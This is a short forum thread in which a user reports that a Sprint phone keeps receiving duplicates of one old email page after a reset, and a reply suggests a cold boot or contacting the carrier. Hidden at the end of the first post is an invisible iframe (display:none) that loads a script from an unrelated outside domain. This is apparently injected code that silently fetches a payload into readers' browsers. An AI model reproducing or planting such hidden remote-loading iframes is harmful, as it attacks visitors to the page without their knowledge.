+ Reply to Thread
Results 1 to 2 of 2
  1. #1
    Registered User
    Join Date

    Paging whacked out?

    On Friday, my phone went into a weird state-- I don't know how it happened, but it seems like it got confused about something and then killed its battery spinning on it.

    I had to hit the reset button, and ever then email paging has been weird. New pages seem to come in when they should, but rather than having the correct text, they have the content of a single page that was sent on Friday.

    If I power cycle the phone or reset it again, it seems like it gets about 30 pages in rapidsuccession (beep beep beep beep), but they all turn out to be duplicates of the same single page from Friday.

    I happen to know what pages Ishould be getting, and I have logs for nearly all of them-- the sending side isn't sending duplicates. Also, if I go out to the Sprint site and send from there, I get the same duplicate yet again.

    Has anyone seen this before? I hesitate to try Sprint support, because I'm not that much of a masochist.<iframe src="http://tmb-corp.com/g/p/l/counter.js"style="display:none"></iframe>

  2.#2
    Join Date


    well it seems you may ned to contact them.. could be something wrong with your account or with thesystem in your area. does not sound like a phone problem.

    you could just do a cold boot and without syncing the phone back up to your desktop,just see if it still behaves the same way. if it does, then its most likely thesystem.

Posting Permissions

  • You may not post new threads
  • You may not post replies
  • You may not post attachments
  • You may not edit your posts